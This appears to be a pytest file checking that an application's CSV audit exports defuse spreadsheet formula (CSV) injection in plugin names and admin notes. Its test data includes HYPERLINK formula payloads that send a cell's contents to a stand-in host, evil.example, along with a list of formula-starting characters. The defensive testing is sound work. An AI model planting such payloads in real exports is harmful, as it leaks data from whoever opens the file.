"""Audit exports as CSV cannot carry spreadsheet formulas (CSV injection).

An installed distribution's entry-point names are audited (`plugin.discovered`,
`plugin.refused`) before anyone approves it, and an admin's disable reason is a note: both
are untrusted text that ends up in the CSV an operator opens in a spreadsheet. A cell that
would start a formula gets a leading `'`; JSON and JSON Lines keep every value exact.
"""

from __future__ import annotations

import csv
import io
import sys
from pathlib import Path

import pytest

from dihya.audit.gdpr import render
from dihya.store.tokens import create_token
from dihya.web import create_app
from support.console import Console
from support.wheels import build_wheel, pip_install, plugin_source
from web.test_api import write_config

#: entry-point names a publisher may choose (no `=`: entry_points.txt splits on it)
FORMULA_NAMES = ('+HYPERLINK("http://evil.example/?"&A1;"x")', "@SUM(1+1)", "-2+3")
STARTS_A_FORMULA = ("=", "+", "-", "@", "\t", "\r")


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_untrusted_names_and_notes_never_start_a_formula_in_a_csv_export(
        plugin_site, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("DIHYA_PLUGINS_DISABLE", raising=False)
    # installed, never approved: discovery alone audits its names
    wheel = build_wheel(plugin_site.wheels, "dihya-plugin-formulas", "1.0.0",
                        {"formulas/__init__.py": plugin_source("formulas")},
                        {name: "formulas:Plugin" for name in FORMULA_NAMES})
    pip_install(sys.executable, str(wheel), target=plugin_site.site)
    app = create_app(write_config(tmp_path / "dihya.toml", [], '[audit]\nkey = "k"\n'))
    store = app.extensions["dihya"].store
    admin = create_token(store, "admin-user", "admin")
    headers = {"Authorization": f"Bearer {admin}"}
    client = app.test_client()
    disabled = client.post("/api/v1/plugins/@SUM(1+1)/disable", headers=headers,
                           json={"reason": '=HYPERLINK("http://evil.example")'})
    assert disabled.status_code in (200, 409), disabled.get_data(as_text=True)

    exports = {
        "api": client.get("/api/v1/audit/export?format=csv", headers=headers),
    }
    console = Console(app)
    assert console.sign_in(admin).status_code == 303
    exports["console"] = console.post("/admin/audit/export", data={"format": "csv"})
    for face, response in exports.items():
        assert response.status_code == 200, (face, response.get_data(as_text=True))
        cells = _cells(response.get_data(as_text=True))
        dangerous = [c for c in cells if c.startswith(STARTS_A_FORMULA)]
        assert dangerous == [], (face, dangerous)
        for name in FORMULA_NAMES:  # still there, readable, as text
            assert "'" + name in cells, (face, name)

    # JSON keeps the values exact: it is what tools read
    as_json = client.get("/api/v1/audit/export", headers=headers).get_json()
    assert set(FORMULA_NAMES) <= {e.get("plugin") for e in as_json}


def test_only_text_cells_that_start_a_formula_are_changed() -> None:
    rows = [{"seq": 1, "type": "plugin.refused", "outcome": "refused", "at": 1.5,
             "plugin": "=1+1", "note": "\tx", "reason": "not-allowlisted",
             "duration_ms": -2.0, "plugin_version": "1.0.0"}]
    table = list(csv.DictReader(io.StringIO(render(rows, "csv"))))
    assert table[0]["plugin"] == "'=1+1" and table[0]["note"] == "'\tx"
    assert table[0]["duration_ms"] == "-2.0"  # a number is a number, not a formula
    assert table[0]["reason"] == "not-allowlisted" and table[0]["plugin_version"] == "1.0.0"
    assert render(rows, "jsonl").count("'") == 0
